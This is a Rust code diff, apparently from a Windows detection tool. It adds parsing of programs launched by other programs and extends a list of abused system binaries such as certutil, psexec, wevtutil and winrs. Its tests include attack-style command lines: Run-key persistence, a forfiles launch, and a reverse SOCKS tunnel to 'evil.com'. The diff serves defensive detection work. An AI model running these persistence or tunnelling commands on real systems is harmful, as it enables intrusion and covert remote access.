@@ -106,6 +106,24 @@ pub fn words(command_line: &str) -> Vec<String> {
     out
 }
 
+/// The program that a command has another program start (`forfiles /c "x.exe …"`): the first
+/// of its further words, and of the words in those, that is one and hosts no others.
+pub fn started_program(command_line: &str) -> Option<String> {
+    let words = words(command_line).into_iter().skip(1);
+    let words = words.flat_map(|word| match is_program(&word) {
+        true => vec![word],
+        false => word.split_whitespace().map(str::to_owned).collect(),
+    });
+    words
+        .map(|word| word.trim_matches(['"', '\'']).to_owned())
+        .find(|word| is_program(word) && !is_host_program(word))
+}
+
+fn is_program(word: &str) -> bool {
+    let word = word.to_ascii_lowercase();
+    [".exe", ".scr"].iter().any(|end| word.ends_with(end)) && !word.contains("://")
+}
+
 /// The program that a command line starts, also when its unquoted path has spaces:
 /// the text up to the first `.exe`, else the first word.
 pub fn program(command_line: &str) -> String {
@@ -277,6 +295,21 @@ pub fn is_host_program(path: &str) -> bool {
         "schtasks.exe",
         "wmic.exe",
         "psexec.exe",
+        "psexec64.exe",
+        "paexec.exe",
+        "at.exe",
+        "certutil.exe",
+        "find.exe",
+        "findstr.exe",
+        "forfiles.exe",
+        "grep.exe",
+        "net.exe",
+        "net1.exe",
+        "reg.exe",
+        "runas.exe",
+        "timeout.exe",
+        "wevtutil.exe",
+        "winrs.exe",
         "ssh.exe",
         "plink.exe",
         "docker.exe",
@@ -309,7 +342,6 @@ pub fn is_host_program(path: &str) -> bool {
         "system",
         "lsass.exe",
         "msmpeng.exe",
-        "certutil.exe",
         "curl.exe",
         "bitsadmin.exe",
         "7z.exe",
@@ -362,6 +394,21 @@ mod tests {
         let line = r#"C:\i\s.exe start --all --config="C:\a b\n.yml",C:\c.yml"#;
         assert_eq!(config_arguments(line), [r"C:\a b\n.yml", r"C:\c.yml"]);
         assert_eq!(config_arguments(r"s.exe -config C:\x.dat"), [r"C:\x.dat"]);
+    }
+
+    #[test]
+    fn programs_that_others_start() {
+        for (line, expected) in [
+            (r#"forfiles /p c:\ /c "cmd /c C:\t\x.exe client y""#, Some(r"C:\t\x.exe")),
+            (
+                r#"reg add HKCU\Run /v u /d "C:\Program Files\x.exe""#,
+                Some(r"C:\Program Files\x.exe"),
+            ),
+            (r"x.exe client evil.com R:socks", None),
+            (r"cmd /c powershell.exe -c x", None),
+        ] {
+            assert_eq!(started_program(line).as_deref(), expected, "{line}");
+        }
     }
 
     #[test]
